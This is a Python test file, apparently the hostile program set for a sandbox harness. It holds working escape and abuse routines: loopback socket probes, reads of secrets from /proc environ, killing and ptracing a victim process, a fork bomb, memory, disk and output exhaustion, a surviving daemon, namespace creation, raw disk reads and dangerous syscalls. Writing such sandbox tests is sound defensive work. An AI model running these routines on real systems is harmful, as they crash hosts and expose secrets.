"""The hostile set: programs a sandbox has to stop, run inside it as `python attacks.py <attack> <json of targets>`.

Each prints ESCAPED if it reached what it must not reach; the harness outside looks as well. Standard library only.
"""

# ruff: noqa: ANN201, FURB122, PTH108, PTH123, SIM105, SIM115, T201, TID251 - an attacker does not keep to the rules of the house
# mypy: ignore-errors

import ctypes
import errno
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

TARGETS = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
MEBIBYTE = 1 << 20
libc = ctypes.CDLL(None, use_errno=True)


def tcp_to_the_host():
    with socket.create_connection(("127.0.0.1", TARGETS["tcp_port"]), 2) as connection:
        return connection.recv(16)


def udp_to_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.settimeout(1)
        datagram.sendto(b"exfiltrated", ("127.0.0.1", TARGETS["udp_port"]))
        return datagram.recv(16)


def unix_socket_by_path():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(f"{TARGETS['folder']}/server.sock")
        return connection.recv(16)


def abstract_unix_socket():
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(f"\0{TARGETS['abstract']}")
        return connection.recv(16)


def read_a_file_outside():
    return Path(TARGETS["folder"], "secret.txt").read_text()


def write_a_file_outside():
    Path(TARGETS["folder"], "victim.txt").write_text("overwritten")
    return True


def secret_in_the_environment():
    return [name for name in os.environ if "SECRET" in name]


def environment_of_the_server():
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and b"VICTIM_SECRET" in (entry / "environ").read_bytes():
                found.append(entry.name)
        except OSError:
            continue
    return found


def signal_the_server():
    os.kill(TARGETS["victim"], signal.SIGTERM)
    return True


def trace_the_server():
    return libc.ptrace(16, TARGETS["victim"], None, None) == 0


def fork_bomb():
    children = 0
    for _ in range(300):
        if os.fork() == 0:
            signal.pause()
        children += 1
    return children == 300


def one_gigabyte():
    block = bytearray(1024 * MEBIBYTE)
    block[::4096] = b"x" * len(block[::4096])
    return True


def many_processes_with_memory():
    reader, writer = os.pipe()
    for _ in range(6):
        if os.fork() == 0:
            block = bytearray(200 * MEBIBYTE)
            block[::4096] = b"x" * len(block[::4096])
            os.write(writer, b"1")
            signal.pause()
    return len([os.read(reader, 1) for _ in range(6)]) == 6


def burn_the_processor():
    while time.process_time() < 3:
        pass
    return True


def burn_with_many_processes():
    """Each stays below the ceiling of one process; together they do not."""
    for _ in range(4):
        if os.fork() == 0:
            while time.process_time() < 0.9:
                pass
            os._exit(0)
    for _ in range(4):
        os.wait()
    return True


def fill_the_disk():
    for number in range(25):
        Path(f"filler-{number}").write_bytes(b"x" * 10 * MEBIBYTE)
    return True


def fill_the_disk_unseen():
    """Deleted files still take space while they are open."""
    held = []
    for number in range(25):
        file = Path(f"filler-{number}").open("wb", buffering=0)
        held.append(file)
        os.unlink(file.name)
        for _ in range(10):
            if file.write(b"x" * MEBIBYTE) != MEBIBYTE:
                return False
        time.sleep(0.02)
    return True


def memory_without_a_process():
    held = [os.memfd_create(str(number)) for number in range(25)]
    for descriptor in held:
        for _ in range(40):
            os.write(descriptor, b"x" * MEBIBYTE)
    return True


def one_huge_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with Path("huge").open("wb") as file:
        for _ in range(120):
            file.write(b"x" * MEBIBYTE)
    return True


def leave_a_daemon():
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            os.closerange(0, 64)
            libc.prctl(15, TARGETS["daemon_name"].encode(), 0, 0, 0)
            while True:
                time.sleep(1)
        os._exit(0)
    os.wait()
    return False  # whether it survives is for the harness to see


def new_user_namespace():
    return libc.unshare(0x10000000 | 0x00020000) == 0


def dangerous_system_calls():
    numbers = TARGETS["calls"]
    reached = []
    for name, (number, *arguments) in numbers.items():
        ctypes.set_errno(0)
        result = libc.syscall(number, *arguments)
        if not (result < 0 and ctypes.get_errno() in (errno.EPERM, errno.ENOSYS, errno.EACCES)):
            reached.append(name)
    return reached


def raw_disk():
    for name in ("vda", "sda", "nvme0n1", "mem", "kmsg"):
        try:
            with open(f"/dev/{name}", "rb", buffering=0) as device:
                return device.read(512)
        except OSError:
            continue
    return False


def flood_the_output():
    for _ in range(3000):
        sys.stdout.write("x" * 10_000)
    sys.stdout.flush()
    return True


def well_behaved():
    """What a built app and its tests need. Prints the parts that work."""
    works = ["sqlite", "threads", "subprocess", "temporary file", "loopback", "unix socket"]
    sqlite3.connect("data.db").execute("create table claim(id integer)")
    thread = threading.Thread(target=works.count, args=("",))
    thread.start()
    thread.join()
    subprocess.run([sys.executable, "-c", "pass"], check=True)
    with tempfile.NamedTemporaryFile() as file:
        file.write(b"x")
    try:
        with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname(), 2):
            pass
        with socket.socket(socket.AF_UNIX) as server:
            server.bind("app.sock")
    except OSError:
        works = works[:-2]
    print(json.dumps(works))


if __name__ == "__main__":
    try:
        outcome = globals()[sys.argv[1]]()
    except (OSError, MemoryError) as problem:
        outcome = False
        print(f"blocked: {type(problem).__name__}: {problem}")
    if outcome:
        print(f"ESCAPED {outcome}"[:200])
